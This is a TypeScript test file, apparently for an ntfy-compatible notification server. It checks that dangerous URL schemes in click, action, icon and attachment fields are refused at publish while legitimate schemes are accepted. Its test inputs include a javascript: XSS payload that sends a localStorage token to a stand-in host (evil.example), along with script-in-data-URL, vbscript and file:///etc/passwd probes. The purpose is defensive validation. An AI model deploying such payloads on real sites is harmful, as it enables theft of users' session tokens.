import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { publish, type Json } from '../support/clients.js';
import { startTestServer, type TestServer } from '../support/server.js';

/** Issue 33, finding 8: the URLs a message carries, checked at publish by header, query and JSON alike. */

let s: TestServer;
before(async () => {
  s = await startTestServer();
});
after(() => s.server.close());

const xss = 'javascript:fetch("//evil.example/?t="+localStorage.getItem("token"))';
const codeOf = ({ status, json }: { status: number; json: Json }): [number, unknown] => [status, json.code];
const viaHeader = (headers: Record<string, string>): Promise<{ status: number; json: Json }> => publish(`${s.url}/links`, 'hi', headers);
const viaQuery = (params: Record<string, string>): Promise<{ status: number; json: Json }> => publish(`${s.url}/links?${new URLSearchParams(params).toString()}`, 'hi');
const viaJson = (fields: Json): Promise<{ status: number; json: Json }> => publish(s.url, JSON.stringify({ topic: 'links', message: 'hi', ...fields }));

describe('message URLs — refused at publish', () => {
  it('a javascript: click is 40092 by header, query and JSON; so are data:, vbscript:, file: and blob:, in any case or disguise', async () => {
    for (const click of [xss, 'JAVASCRIPT:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'file:///etc/passwd', 'blob:https://x/1', 'javascript&#58;alert(1)', 'javascript%3aalert(1)', `https://example.com/${'a'.repeat(2048)}`]) {
      assert.deepEqual(codeOf(await viaHeader({ Click: click })), [400, 40092], click);
      assert.deepEqual(codeOf(await viaJson({ click })), [400, 40092], click);
    }
    assert.deepEqual(codeOf(await viaQuery({ click: xss })), [400, 40092]);
    assert.deepEqual(codeOf(await viaJson({ click: '\x01javascript:alert(1)' })), [400, 40092]);
    assert.deepEqual(await viaHeader({ Click: xss }), {
      status: 400,
      json: { code: 40092, http: 400, error: 'invalid request: click URL is invalid', link: 'https://ntfy.sh/docs/publish/#click-action' },
    });
  });

  it('a javascript: view action is 40018 saying why, in the short format, as JSON and in a JSON publish; an http action must be http(s)', async () => {
    const answer = await viaHeader({ Actions: `view, Open, ${xss}` });
    assert.deepEqual(answer, {
      status: 400,
      json: { code: 40018, http: 400, error: "invalid request: actions invalid; parameter 'url' is invalid: scheme javascript: is not allowed", link: 'https://ntfy.sh/docs/publish/#action-buttons' },
    });
    assert.deepEqual(codeOf(await viaHeader({ Actions: JSON.stringify([{ action: 'view', label: 'Open', url: 'data:text/html,x' }]) })), [400, 40018]);
    assert.deepEqual(codeOf(await viaJson({ actions: [{ action: 'view', label: 'Open', url: 'vbscript:msgbox(1)' }] })), [400, 40018]);
    assert.deepEqual(codeOf(await viaHeader({ Actions: 'http, Call, mailto:phil@example.com' })), [400, 40018]);
  });

  it('oversized action fields are 40018: a label past 256 characters, a body past 4,096, more than 20 headers', async () => {
    assert.deepEqual(codeOf(await viaJson({ actions: [{ action: 'view', label: 'L'.repeat(257), url: 'https://x.example/' }] })), [400, 40018]);
    assert.deepEqual(codeOf(await viaJson({ actions: [{ action: 'http', label: 'Go', url: 'https://x.example/', body: 'b'.repeat(4097) }] })), [400, 40018]);
    const headers = Object.fromEntries(Array.from({ length: 21 }, (_, i) => [`X-${i}`, 'v']));
    assert.deepEqual(codeOf(await viaJson({ actions: [{ action: 'http', label: 'Go', url: 'https://x.example/', headers }] })), [400, 40018]);
  });

  it('a non-http(s) icon is 40021 and attachment 40013, by header and JSON', async () => {
    for (const url of [xss, 'data:image/png;base64,iVBORw0KGgo=', 'file:///etc/passwd']) {
      assert.deepEqual(codeOf(await viaHeader({ Icon: url })), [400, 40021], url);
      assert.deepEqual(codeOf(await viaJson({ icon: url })), [400, 40021], url);
      assert.deepEqual(codeOf(await viaHeader({ Attach: url })), [400, 40013], url);
      assert.deepEqual(codeOf(await viaJson({ attach: url })), [400, 40013], url);
    }
  });
});

describe('message URLs — accepted as ntfy\'s docs show them', () => {
  it('http(s), mailto:, geo: and app links (ntfy://, twitter://) for click and view actions are stored as sent', async () => {
    for (const click of ['https://home.nest.com/', 'mailto:phil@example.com', 'geo:0,0?q=1600+Amphitheatre+Parkway,+Mountain+View,+CA', 'ntfy://ntfy.sh/stats', 'twitter://user?screen_name=x']) {
      const { status, json } = await viaHeader({ Click: click, Actions: `view, Open, "${click}"` }); // quoted: geo: has commas
      assert.equal(status, 200, click);
      assert.deepEqual([json.click, (json.actions as Json[])[0]?.url], [click, click]);
    }
    const { json } = await viaJson({ icon: 'https://example.com/i.png', attach: 'https://example.com/f.jpg', actions: [{ action: 'http', label: 'Open door', url: 'https://api.nest.com/open/yAxkasd', body: '{"open":true}' }] });
    assert.deepEqual([json.icon, (json.attachment as Json).url, (json.actions as Json[])[0]?.url], ['https://example.com/i.png', 'https://example.com/f.jpg', 'https://api.nest.com/open/yAxkasd']);
  });
});
